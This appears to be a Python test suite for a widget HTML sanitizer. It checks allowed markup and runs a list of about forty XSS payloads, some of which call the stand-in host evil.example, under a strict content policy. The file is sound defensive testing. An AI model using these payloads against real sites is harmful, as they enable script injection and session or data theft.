"""quality.md E2, widgets.md 11.3: texts may hold markup, through one allow-list; nothing in them runs."""

from sdk_shop import Shop

# What is written, and what is built from it.
PLAIN = [
    ("a <strong>b</strong> c", "a <strong>b</strong> c"),
    ("<p class='x'>a<br>b<br/>c</p>", '<p class="x">a<br>b<br>c</p>'),
    ("<b>a <i>b</b> c</i> d", "<b>a <i>b</i></b><i> c</i> d"),
    ("a < b && c > d", "a &lt; b &amp;&amp; c &gt; d"),
    ("&lt;b&gt; &amp;amp; &euro;&#8364;&#x20AC;", "&lt;b&gt; &amp;amp; €€€"),
    ("&unknown; &nbsp;", "&amp;unknown; &nbsp;"),
    ("&#0;&#xD800;&#x110000;", "���"),
    ("<!-- no -->a<!-- open", "a"),
    ('<a href="/x?a=1&amp;b=2" target="_blank">x</a>', '<a href="/x?a=1&amp;b=2" target="_blank" rel="noopener">x</a>'),
    ("<a href='mailto:a@b.co'>x</a>", '<a href="mailto:a@b.co">x</a>'),
    ('<img src="/a.png" alt="A" width=5>', '<img src="/a.png" alt="A" width="5">'),
    ('<span style="color: red">x</span>', '<span style="color: red;">x</span>'),
    ("<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>"),
    ('<div data-x="1" aria-label="y" hidden>z</div>', '<div data-x="1" aria-label="y">z</div>'),
    ("<custom-tag>a</custom-tag>", "a"),
    ("</b>a</div>", "a"),
    ("a<", "a&lt;"),
    ("<article>a<hr>b</article><nobr>c</nobr>", "<article>a<hr>b</article><nobr>c</nobr>"),
    ("<b", ""),
    ('<i id="mine">x</i>', '<i id="mine">x</i>'),
    ('<i id="title"></i><i id="jstag"></i><i id="lio"></i><i id="name">x</i>', "<i></i><i></i><i></i><i>x</i>"),
]

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT >x",
    "<script/>alert(1)",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'/>",
    "<img src=javascript:alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mi xlink:href='data:x,<script>alert(1)</script>'></mi></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=vbscript:alert(1)>x</a>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(//evil.example/x)}</style>",
    '<div style="background:url(//evil.example/x)">x</div>',
    '<div style="background:u\\72l(//evil.example/x)">x</div>',
    '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh">x</div>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<template><img src=x onerror=alert(1)></template>",
    "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)><marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)></select>",
    "<b <script>alert(1)</script>>x</b>",
    "<<script>script>alert(1)<</script>/script>",
    "<img \x00src=x on\x00error=alert(1)>",
    "<a id=jstag><a id=jstag name=send href=x:y>x</a>",
    "<form id=body><input name=parentNode></form>",
]

FIELDS = ("headline", "msg", "footerText", "okMessage", "cancelMessage")

AUDIT = """() => {
  const bad = [];
  const forms = 'form|input|select|textarea', loads = 'iframe|object|embed|link|meta|base|video|audio';
  const banned = new RegExp(`^(script|style|template|noscript|svg|math|details|${forms}|${loads})$`);
  for (const node of document.querySelectorAll('#w, #w *')) {
    if (banned.test(node.localName)) bad.push(node.localName);
    for (const {name, value} of node.attributes) {
      if (/^on|^formaction|^srcdoc|^xlink|^name$/.test(name)) bad.push(name);
      const goes = /^(href|src)$/.test(name) ? new URL(value, location.href).protocol : 'http:';
      if (!/^(https?|mailto):/.test(goes)) bad.push(value);
      if (name === 'style' && /url|position/.test(value)) bad.push(value);
    }
  }
  return bad;
}"""


def test_texts_may_hold_markup(shop: Shop) -> None:
    for source, built in PLAIN:
        shop.run("pathfora.clearAll()")
        shop.show(msg=source)
        assert shop.run("document.querySelector('#w .pf-widget-message').innerHTML") == built, source


def test_nothing_in_a_text_runs_or_leaves(shop: Shop) -> None:
    for attack in ATTACKS:
        shop.run("pathfora.clearAll()")
        shop.show(**dict.fromkeys(FIELDS, attack))
        shop.tick(100)
        assert shop.there(), attack
        assert shop.run(AUDIT) == [], attack
        shop.run("for (const node of document.querySelectorAll('#w a, #w .pf-widget-message *')) node.click()")
        assert shop.run("[alerts, typeof jstag.send, location.pathname]") == [0, "function", "/"], attack
    assert [url for url in shop.asked if "evil" in url] == []


def test_a_long_text_of_open_tags_is_no_trap(shop: Shop) -> None:
    shop.run("""() => {
      for (const piece of ['<a ', '<a "', "<a '", '<!--', '&#', '<b>', '</b>'])
        pathfora.initializeWidgets([pathfora.Message({id: piece, msg: piece.repeat(4000)})]);
    }""")
    assert shop.run("document.querySelectorAll('.pf-widget').length") == 7


def test_only_strings_are_markup_and_numbers_are_text(shop: Shop) -> None:
    shop.show(msg=5, headline=None)
    assert shop.run("document.querySelector('#w .pf-widget-message').textContent") == "5"
    assert shop.run("document.querySelector('#w .pf-widget-headline').textContent") == ""


STRICT = (
    "default-src 'none'; script-src 'nonce-n'; style-src 'none'; "
    "require-trusted-types-for 'script'; trusted-types 'none'"
)
STYLED = (
    '<b style="color: rgb(1, 2, 3)" onclick="alert(1)">'
    '<i onstart="x" style="color: rgb(4, 5, 6)">a &eacute; &lt;</i></b>'
)


def test_markup_is_built_and_styled_under_the_strictest_policy_and_nothing_is_reported(shop: Shop) -> None:
    shop.open(policy=STRICT)
    before = shop.run("violations.length")
    shop.show(msg=STYLED)
    assert shop.run("document.querySelector('#w i').textContent") == "a é <"
    found = "[...document.querySelectorAll('#w b, #w i')].map((node) => [node.style.color, node.attributes.length])"
    assert shop.run(found) == [["rgb(1, 2, 3)", 1], ["rgb(4, 5, 6)", 1]]
    assert shop.run("violations.length") == before


def test_without_a_sanitizer_tags_go_where_types_are_required_and_are_built_elsewhere(shop: Shop) -> None:
    without = "delete Element.prototype.setHTML"
    shop.open(before=without)
    shop.show(msg=STYLED)
    assert shop.run("document.querySelector('#w i').textContent") == "a é <"
    shop.open(before=without, policy=STRICT)
    shop.show(msg="a <b>b</b> <i title='>'>c</i>")
    assert shop.run("document.querySelector('#w .pf-widget-message').children.length") == 0
    assert "b" in shop.run("document.querySelector('#w .pf-widget-message').textContent")
